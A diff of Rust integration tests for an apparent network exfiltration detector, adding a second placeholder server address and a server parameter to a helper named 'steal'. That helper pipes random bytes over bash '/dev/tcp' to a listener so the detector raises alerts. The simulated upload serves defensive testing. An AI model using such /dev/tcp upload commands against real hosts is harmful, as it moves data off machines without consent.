@@ -18,6 +18,8 @@ use serde_json::Value;
 
 const KILLS: u64 = 50;
 const SERVER: &str = "203.0.113.10";
+/// What goes to the first joins its alert.
+const OTHER_SERVER: &str = "198.51.100.10";
 
 /// `detector serve` on a port of the kernel's choice.
 struct Served {
@@ -149,9 +151,9 @@ fn listener(topology: &Topology, port: u16) -> Background {
     topology.server().spawn("ncat", ["-4", "-l", "-k", "--recv-only", &port]).unwrap()
 }
 
-fn steal(topology: &Topology, port: u16) {
+fn steal(topology: &Topology, server: &str, port: u16) {
     let mut command = topology.client.command("bash");
-    let upload = format!("head -c 3000000 /dev/urandom > /dev/tcp/{SERVER}/{port}");
+    let upload = format!("head -c 3000000 /dev/urandom > /dev/tcp/{server}/{port}");
     run_checked(command.args(["-c", &upload])).unwrap();
 }
 
@@ -177,7 +179,7 @@ fn a_full_disk_costs_nothing_but_what_could_not_be_stored() {
     let device = [Topology::CLIENT_INTERFACE];
     let mut watch = Watch::start_in(folders, &topology.client, &device, &[], HOME);
     disk.fill().unwrap();
-    steal(&topology, 4_001);
+    steal(&topology, SERVER, 4_001);
     // It is told all the same.
     poll_until(START, || (alerts_told(&watch) == 1).then_some(())).unwrap();
     let written = |count: usize| {
@@ -191,7 +193,7 @@ fn a_full_disk_costs_nothing_but_what_could_not_be_stored() {
     disk.free().unwrap();
     poll_until(START, || written(1)).unwrap();
     disk.fill().unwrap();
-    steal(&topology, 4_002);
+    steal(&topology, OTHER_SERVER, 4_002);
     poll_until(START, || (alerts_told(&watch) == 2).then_some(())).unwrap();
     let started = Instant::now();
     watch.process.terminate().unwrap();
